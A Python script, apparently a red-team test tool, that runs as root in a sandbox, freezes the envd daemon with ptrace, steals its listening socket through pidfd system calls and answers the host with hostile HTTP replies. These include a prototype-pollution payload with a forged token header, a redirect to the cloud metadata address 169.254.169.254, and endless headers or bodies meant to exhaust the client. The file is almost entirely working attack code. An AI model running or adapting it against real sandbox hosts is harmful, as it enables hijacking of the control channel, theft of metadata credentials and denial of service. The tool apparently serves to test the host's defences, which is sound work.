# Root of a sandbox in envd's place: stops envd with a debugger, takes its listening socket and answers for it. Argument:
# how. Prints `taken` when it answers.
import ctypes, os, re, socket, sys, threading, time

how = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
listening = {line.split()[9] for name in ('tcp', 'tcp6') for line in open('/proc/net/' + name).read().splitlines()[1:]
  if line.split()[3] == '0A' and line.split()[1].endswith(':C33F')}
numbers = [int(name) for name in os.listdir('/proc/1/fd')
  if re.sub(r'\D', '', os.readlink('/proc/1/fd/' + name)) in listening]
process = libc.syscall(434, 1, 0)
taken = [libc.syscall(438, process, number, 0) for number in numbers]
if not taken or taken[0] < 0: sys.exit('the socket cannot be taken')
for task in os.listdir('/proc/1/task'):
  libc.ptrace(0x4206, int(task), 0, 0)
  libc.ptrace(0x4207, int(task), 0, 0)
server = socket.socket(fileno=taken[0])
server.settimeout(None)
chunk = b'4000\r\n' + b'a' * 16384 + b'\r\n'
answers = {
  'forged': (b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 46\r\nX-Soulbox-Host-Token: x\r\n\r\n{"code": 0, "__proto__": {"admin": true}, "": 1', b''),
  'head': (b'HTTP/1.1 200 OK\r\n', b'X-Header: aaaaaaaaaaaaaaaaaaaaaaaa\r\n' * 500),
  'body': (b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n', chunk),
  'interim': (b'', b'HTTP/1.1 103 Early Hints\r\nLink: <a>\r\n\r\n' * 500),
  'redirect': (b'HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/redteam\r\nContent-Length: 0\r\n\r\n', b''),
  'bytes': (os.urandom(4096), b''),
  'silent': (b'', b''),
}


def serve(opened):
  first, endless = answers[how]
  try:
    opened.recv(65536)
    opened.sendall(first)
    while endless: opened.sendall(endless)
    time.sleep(600)
  except OSError: pass


print('taken', flush=True)
while True:
  opened, _ = server.accept()
  opened.settimeout(None)
  threading.Thread(target=serve, args=(opened,), daemon=True).start()
